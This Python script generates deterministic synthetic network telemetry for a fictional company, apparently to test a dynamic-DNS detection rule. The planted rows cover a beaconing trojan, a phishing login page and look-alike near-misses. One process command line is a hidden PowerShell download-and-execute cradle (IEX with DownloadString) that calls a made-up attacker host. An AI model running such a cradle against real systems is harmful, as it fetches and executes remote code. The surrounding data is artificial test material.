#!/usr/bin/env python3
"""Makes a small, believable estate's network telemetry in three export shapes; the same seed gives the same bytes.

Usage: make_estate.py OUT_DIR

The company, its people, devices and addresses are made up (corp.example, RFC 1918 and RFC 5737 addresses); benign
destinations are well-known services, hits are made-up names below dynamic-DNS suffixes.
"""
import csv
import datetime
import gzip
import hashlib
import io
import json
import os
import random
import sys

SEED = 20240715
START = datetime.datetime(2026, 3, 9, 6, 0, 0)
DAYS = 4
TENANT = "6f1f3a52-2c0e-4b6e-9c57-0c4a5a1d7e11"

USERS = [("ws-fin-014", "j.okafor"), ("ws-fin-022", "m.lindqvist"), ("ws-dev-003", "a.petrov"),
         ("ws-dev-007", "s.nakamura"), ("lt-sales-031", "c.moreau"), ("lt-sales-040", "r.gupta"),
         ("ws-hr-002", "l.fischer"), ("srv-files-01", "svc_backup")]

BROWSERS = [("chrome.exe", r"c:\program files\google\chrome\application\chrome.exe",
             r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type='
             r"network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=1956,i,"
             r"1107,262144 --variations-seed-version /prefetch:3"),
            ("msedge.exe", r"c:\program files (x86)\microsoft\edge\application\msedge.exe",
             r'"msedge.exe" --no-startup-window --win-session-start /prefetch:5')]
SERVICES = [("svchost.exe", r"c:\windows\system32\svchost.exe", "svchost.exe -k netsvcs -p -s wlidsvc"),
            ("outlook.exe", r"c:\program files\microsoft office\root\office16\outlook.exe",
             r'"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" '),
            ("teams.exe", r"c:\users\public\appdata\local\microsoft\teams\current\teams.exe",
             r'"Teams.exe" --type=renderer --enable-features="a,b"')]
BENIGN = ["www.bing.com", "outlook.office365.com", "teams.microsoft.com", "login.microsoftonline.com",
          "eu-v20.events.data.microsoft.com", "www.google.com", "fonts.gstatic.com", "github.com", "pypi.org",
          "static.xx.fbcdn.net", "cdn.jsdelivr.net", "ocsp.digicert.com", "en.wikipedia.org", "registry.npmjs.org",
          "https://www.example.org/", "settings-win.data.microsoft.com"]

# (hours after the start, device, process, folder, command line, url, address, port, action)
RAT = ("updatesvc.exe", r"c:\users\c.moreau\appdata\roaming\updatesvc\updatesvc.exe",
       r'"C:\Users\c.moreau\AppData\Roaming\UpdateSvc\updatesvc.exe" -q')
KIT = ("chrome.exe", BROWSERS[0][1], BROWSERS[0][2])
DROPPER = ("powershell.exe", r"c:\windows\system32\windowspowershell\v1.0\powershell.exe",
           r"""powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://"""
           r"""cdn-invoice.serveftp.com/a')" """)
NAS = ("synology drive.exe", r"c:\program files (x86)\synology\synologydrive\bin\launcher.exe",
       r'"launcher.exe" --background')
VNC = ("vncviewer.exe", r"c:\program files\realvnc\vnc viewer\vncviewer.exe", r'"vncviewer.exe" lab-kvm.myvnc.com::5901')


def planted():
    """Hits of the published rule, and rows that only look like one."""
    for i in range(9):                                              # the trojan calls home, nearly every 40 minutes
        yield 26.2 + i * 0.667, "lt-sales-031", RAT, "kestrel-7f.duckdns.org", "203.0.113.77", 4782, \
            "ConnectionFailed" if i in (2, 5) else "ConnectionSuccess"
    yield 26.05, "lt-sales-031", DROPPER, "cdn-invoice.serveftp.com", "203.0.113.76", 80, "ConnectionSuccess"
    yield 49.4, "ws-fin-022", KIT, "m365-secure-login.hopto.org", "198.51.100.23", 443, "ConnectionSuccess"
    yield 49.5, "ws-fin-014", KIT, "m365-secure-login.hopto.org", "198.51.100.23", 443, "ConnectionSuccess"
    yield 52.0, "ws-dev-003", VNC, "lab-kvm.myvnc.com", "198.51.100.90", 5901, "ConnectionSuccess"
    for day in range(DAYS):                                         # a backup that somebody approved
        yield 18.0 + 24 * day, "srv-files-01", NAS, "nas-branch2.ddns.net", "192.0.2.45", 6690, "ConnectionSuccess"
    yield 70.1, "ws-hr-002", KIT, "camera-lobby.gotdns.ch", "192.0.2.61", 8443, "ConnectionAttempt"
    # not hits of the published rule: another suffix, another case, a dot, a port, a look-alike, a name in front
    yield 30.0, "ws-dev-007", KIT, "Build-Cache.DuckDNS.org", "203.0.113.12", 443, "ConnectionSuccess"
    yield 31.0, "ws-dev-007", KIT, "build-cache.duckdns.org.", "203.0.113.12", 443, "ConnectionSuccess"
    yield 32.0, "ws-dev-007", KIT, "build-cache.duckdns.org:8443", "203.0.113.12", 8443, "ConnectionSuccess"
    yield 33.0, "lt-sales-040", KIT, "www.notduckdns.org", "203.0.113.13", 443, "ConnectionSuccess"
    yield 34.0, "lt-sales-040", KIT, "ddns.net.blog.example", "203.0.113.14", 443, "ConnectionSuccess"
    yield 35.0, "ws-dev-003", KIT, "relay.dynv6.net", "203.0.113.15", 443, "ConnectionSuccess"
    yield 36.0, "ws-hr-002", KIT, "https://shop.zapto.org/cart", "203.0.113.16", 443, "ConnectionSuccess"


def stamp(moment, rng):
    """Kusto prints up to seven digits and cuts trailing zeros."""
    digits = f"{moment.microsecond:06d}{rng.randrange(10)}".rstrip("0")
    return moment.strftime("%Y-%m-%dT%H:%M:%S") + ("." + digits if digits else "") + "Z"


def sha(name, digest):
    return hashlib.new(digest, name.encode()).hexdigest()


def row(rng, hours, device, process, url, address, port, action, serial):
    moment = START + datetime.timedelta(hours=hours, seconds=rng.random() * 40)
    user = dict(USERS)[device]
    name, folder, command = process
    index = [d for d, _ in USERS].index(device)
    started = moment - datetime.timedelta(minutes=rng.randrange(3, 600))
    return {
        "Timestamp": stamp(moment, rng), "DeviceId": sha(device, "sha1"), "DeviceName": device + ".corp.example",
        "ActionType": action, "RemoteIP": address, "RemotePort": port, "RemoteUrl": url,
        "LocalIP": f"10.20.{4 + index // 4}.{20 + index}", "LocalPort": rng.randrange(49152, 65535), "Protocol": "Tcp",
        "LocalIPType": "Private", "RemoteIPType": "Public",
        "InitiatingProcessSHA1": sha(folder, "sha1"), "InitiatingProcessSHA256": sha(folder, "sha256"),
        "InitiatingProcessMD5": sha(folder, "md5"), "InitiatingProcessFileName": name,
        "InitiatingProcessFileSize": 10000 + len(folder) * 4096, "InitiatingProcessId": rng.randrange(900, 22000),
        "InitiatingProcessCommandLine": command, "InitiatingProcessCreationTime": stamp(started, rng),
        "InitiatingProcessFolderPath": folder, "InitiatingProcessParentFileName": "explorer.exe",
        "InitiatingProcessParentId": rng.randrange(900, 9000),
        "InitiatingProcessParentCreationTime": stamp(started - datetime.timedelta(hours=1), rng),
        "InitiatingProcessAccountDomain": "corp", "InitiatingProcessAccountName": user,
        "InitiatingProcessAccountSid": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + index}",
        "InitiatingProcessAccountUpn": user + "@corp.example", "InitiatingProcessAccountObjectId": None,
        "InitiatingProcessIntegrityLevel": "Medium", "InitiatingProcessTokenElevation": "TokenElevationTypeLimited",
        "ReportId": serial, "AppGuardContainerId": "", "AdditionalFields": None,
    }


def inspected(rng, hours, device, host, serial):
    """A DNS row: no RemoteUrl, no process, the name inside AdditionalFields."""
    base = row(rng, hours, device, SERVICES[0], None, "10.20.0.53", 53, "DnsConnectionInspected", serial)
    for column in base:
        if column.startswith("InitiatingProcess") or column.endswith("IPType"):
            base[column] = None
    base["Protocol"] = "Udp"
    base["AdditionalFields"] = json.dumps({"direction": "Out", "query": host, "qtype_name": "A", "rcode_name": "NOERROR",
                                           "answers": json.dumps(["192.0.2.7"]), "TTLs": "[60.0]"}, separators=(",", ":"))
    return base


def estate(rng):
    rows = []
    for hours, device, process, url, address, port, action in planted():
        rows.append(row(rng, hours, device, process, url, address, port, action, len(rows) + 1))
    for _ in range(420):
        device, _user = rng.choice(USERS[:7])
        day, hour = rng.randrange(DAYS), rng.gauss(6.5, 2.5) % 14
        process = rng.choice(BROWSERS + SERVICES)
        url = rng.choice(BENIGN) if rng.random() < 0.7 else None
        rows.append(row(rng, 24 * day + hour, device, process, url, f"198.18.{rng.randrange(4)}.{rng.randrange(1, 250)}",
                        443 if rng.random() < 0.9 else 80,
                        rng.choice(["ConnectionSuccess"] * 8 + ["ConnectionFailed", "ConnectionRequest"]), len(rows) + 1))
    for i in range(24):
        host = "kestrel-7f.duckdns.org" if i % 8 == 3 else rng.choice(BENIGN[:8])
        rows.append(inspected(rng, 2 + i * 3.7, rng.choice(USERS[:7])[0], host, len(rows) + 1))
    rows.sort(key=lambda r: r["Timestamp"])
    return rows


def streaming(rows, rng):
    """Envelopes as a storage account gets them; logon events of the same stream are mixed in."""
    lines = []
    for r in rows:
        envelope = {"time": r["Timestamp"], "tenantId": TENANT, "operationName": "Publish",
                    "category": "AdvancedHunting-DeviceNetworkEvents",
                    "_TimeReceivedBySvc": r["Timestamp"], "properties": dict(r, MachineGroup="Workstations"),
                    "Tenant": "DefaultTenant"}
        lines.append(envelope)
        if rng.random() < 0.06:
            lines.append({"time": r["Timestamp"], "tenantId": TENANT, "operationName": "Publish",
                          "category": "AdvancedHunting-DeviceLogonEvents",
                          "properties": {"Timestamp": r["Timestamp"], "DeviceName": r["DeviceName"],
                                         "ActionType": "LogonSuccess", "AccountName": r["InitiatingProcessAccountName"]}})
    return "".join(json.dumps(e, separators=(",", ":")) + "\r\n" for e in lines).encode()


def portal(rows):
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(rows[0])
    for r in rows:
        writer.writerow("" if v is None else v for v in r.values())
    return text.getvalue().encode()


def api(rows):
    types = {"Timestamp": "DateTime", "RemotePort": "Int32", "LocalPort": "Int32", "ReportId": "Int64"}
    schema = [{"Name": c, "Type": types.get(c, "String")} for c in rows[0]]
    return json.dumps({"Stats": {"ExecutionTime": 0.84, "dataset_statistics": [{"table_row_count": len(rows)}]},
                       "Schema": schema, "Results": rows}, indent=4).encode()


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    rng = random.Random(SEED)
    rows = estate(rng)
    third = START + datetime.timedelta(hours=28)
    two_thirds = START + datetime.timedelta(hours=51)
    parts = ([r for r in rows if r["Timestamp"] < third.isoformat()],
             [r for r in rows if third.isoformat() <= r["Timestamp"] < two_thirds.isoformat()],
             [r for r in rows if r["Timestamp"] >= two_thirds.isoformat()])
    files = {"streaming.jsonl.gz": gzip.compress(streaming(parts[0], rng), mtime=0), "portal.csv": portal(parts[1]),
             "api.json": api(parts[2])}
    for name, data in files.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
